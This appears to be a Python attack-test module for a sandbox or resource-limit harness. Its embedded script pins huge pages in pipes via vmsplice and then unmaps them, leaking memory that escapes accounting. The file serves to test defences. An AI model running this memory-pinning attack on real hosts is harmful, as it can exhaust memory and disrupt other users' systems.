"""Gives huge pages to pipes, a byte of each, and the memory back: it stays taken, and is nobody's."""

from __future__ import annotations

from tests.attacks.kit import RIGHT, Work

ANSWERS = RIGHT


def attack(work: Work) -> None:
    work.after("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    given = 0
    for _ in range(100):
        size = 4 * 1024**2
        place = libc.mmap(None, ctypes.c_size_t(size), 3, 0x22, -1, 0)
        huge = (place + 2**21 - 1) & -2**21
        libc.madvise(ctypes.c_void_p(huge), ctypes.c_size_t(2**21), 14)
        ctypes.memset(huge, 1, 1)
        reads, writes = os.pipe()
        given += libc.vmsplice(writes, ctypes.byref(Part(huge, 1)), ctypes.c_size_t(1), 0) > 0
        libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(size))
    if given: print("ATTACK-" + "SUCCEEDED", given)
    """)
